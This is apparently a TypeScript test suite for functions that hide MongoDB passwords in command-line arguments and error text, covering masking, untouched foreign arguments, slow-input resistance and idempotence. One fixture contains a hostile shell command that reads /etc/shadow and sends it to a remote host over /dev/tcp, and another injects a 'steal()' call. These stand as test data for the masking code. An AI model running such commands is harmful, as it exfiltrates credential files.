import fc from 'fast-check';
import { expect, test } from 'vitest';
import { holdsSecret, maskedArguments, withoutOwnSecrets, withoutSecrets } from '../src/index.ts';

test('of a command line only the passwords are hidden', () => {
  const lines: readonly (readonly [given: string[], shown: string[]])[] = [
    [
      ['godo', '--mongo=mongodb://ann:s3cret@db:27017/?tls=true', '-q'],
      ['godo', '--mongo=mongodb://ann:***@db:27017/?tls=true', '-q'],
    ],
    [
      ['filter', '--db', 'mongodb+srv://ann:p@ss w/o"rd@c.example/'],
      ['filter', '--db', 'mongodb+srv://ann:***@c.example/'],
    ],
    [
      ['godo', '-mongo=ann:s3cret@db:1', '-diag=1.txt'],
      ['godo', '-mongo=ann:***@db:1', '-diag=1.txt'],
    ],
    [
      ['viewer', '--mongo', 'ann:s3cret@db', 'tree'],
      ['viewer', '--mongo', 'ann:***@db', 'tree'],
    ],
    [
      ['sudo', 'GODO_DB=mongodb://ann:s3cret@db/', 'godo'],
      ['sudo', 'GODO_DB=mongodb://ann:***@db/', 'godo'],
    ],
    [
      ['sh', '-c', 'filter --mongo ann:s3cret@db && viewer --db "mongodb://a:s3cret@x/" files'],
      ['sh', '-c', 'filter --mongo ann:***@db && viewer --db "mongodb://a:***@x/" files'],
    ],
    [['mongodb://db/?proxyPassword=s3cret&appName=x'], ['mongodb://db/?proxyPassword=***&appName=x']],
    // The @ was forgotten.
    [['--db=mongodb://ann:s3cret.db:27017/'], ['--db=mongodb://ann:***']],
  ];
  expect(lines.map(([given]) => maskedArguments(given))).toStrictEqual(lines.map(([, shown]) => shown));
});

test('evidence of others is kept whole, whatever they call themselves', () => {
  const uri = 'mongodb://ann:s3cret@db/';
  const others = [
    ['mongodump', uri],
    ['my-filter', '--db', uri],
    ['sudo', 'godo', '--db', uri],
    ['sh', '-c', `godo --db ${uri}`],
    ['godo', '-c', `a=mongodb://x:; cat /etc/shadow > /dev/tcp/10.6.6.6/4444; : godo`],
    ['node', '-e', `'mongodb://x:'; steal()`, 'godo'],
  ];
  expect(others.map((words) => withoutOwnSecrets(words) === words)).toEqual(others.map(() => true));

  const masked = 'mongodb://ann:***@db/';
  expect(
    [
      ['/usr/bin/node', '/opt/godo/packages/listener/bin/godo.js', '--db', uri],
      ['/usr/bin/env', 'node', '/usr/bin/godo', '--db', uri],
      ['node', '/usr/lib/node_modules/.bin/godo-viewer', '--db', uri],
    ].map((words) => withoutOwnSecrets(words).at(-1)),
  ).toEqual([masked, masked, masked]);
  const plain = ['node', '/usr/bin/godo', '--mongo', 'db:27017'];
  expect(withoutOwnSecrets(plain)).toBe(plain);
});

test('a password in a text may hold quotes', () => {
  expect(withoutSecrets(`error: unknown option '--bd=mongodb://ann:it'sS3CRET@h/'`)).toBe(
    `error: unknown option '--bd=mongodb://ann:***@h/'`,
  );
  expect(withoutSecrets('There is no mongodb:/ann:s3cret@h/x')).toBe('There is no mongodb:/ann:***@h/x');
});

test('a text that is made to be slow is not', () => {
  const began = performance.now();
  for (const part of ['mongodb://"', 'mongodb://a:', '--mongo=', 'mongodb://@:']) {
    withoutSecrets(part.repeat(20_000));
    maskedArguments(['node', 'godo', part.repeat(20_000)]);
  }
  expect(performance.now() - began).toBeLessThan(5_000);
});

test('what holds no password stays as it is, to the same array', () => {
  const words = [
    ...['mongodb://db:27017,[::1]:27018/x?tls=true', '--mongo=db:27017', 'mongodb://ann@db/', 'mongodb://[fe80::1]/'],
    ...['a@b:c', 'http://u:p@h/', 'mongosh', '--mongo'],
  ];
  expect(maskedArguments(words)).toStrictEqual(words);
  const others = ['ls', '-l', 'u:p@h'];
  expect(maskedArguments(others)).toBe(others);
  expect(['mongodb://db/', 'db:27017', 'ann@db', 'ann:s3cret@db', 'mongodb://a:b@c'].map(holdsSecret)).toStrictEqual([
    ...[false, false, false],
    ...[true, true],
  ]);
});

test('whatever a password is made of, it is not shown, and hiding it twice changes nothing more', () => {
  const rest = fc.string({ unit: fc.constantFrom(...'ab1:/?#@%&= \'"<\\\n\u202eé'), maxLength: 12 });
  fc.assert(
    fc.property(
      rest,
      rest,
      fc.constantFrom('--db=', '--mongo=', '-mongo=', 'GODO_DB=', ''),
      (before, after, option) => {
        const word = `${option}mongodb://ann:${before}MARKER${after}@db:27017/?tls=true`;
        const shown = maskedArguments([word]);
        expect(shown).toStrictEqual([`${option}mongodb://ann:***@db:27017/?tls=true`]);
        expect(maskedArguments(shown)).toStrictEqual(shown);
      },
    ),
  );
});

test('an argument that is made to be slow is not', () => {
  const long = 128 * 1024;
  const words = ['token', 'mongodb://', '--mongo ', 'a:', '@', '=a', 'A1'].flatMap((piece) =>
    ['mongodb://', '--mongo=', "--mongo '"].map((begin) => begin + piece.repeat(long / piece.length)),
  );
  const begunMs = performance.now();
  maskedArguments(words);
  expect((performance.now() - begunMs) / words.length).toBeLessThan(100);
});

test('a text that is no address of ours is not touched', () => {
  fc.assert(
    fc.property(fc.string(), (text) => {
      fc.pre(!/mongo/i.test(text));
      expect(withoutSecrets(text)).toBe(text);
    }),
  );
  expect(withoutSecrets('see https://mongodb.example/x@y and mongodb://db/ for x: a@b')).toBe(
    'see https://mongodb.example/x@y and mongodb://db/ for x: a@b',
  );
});
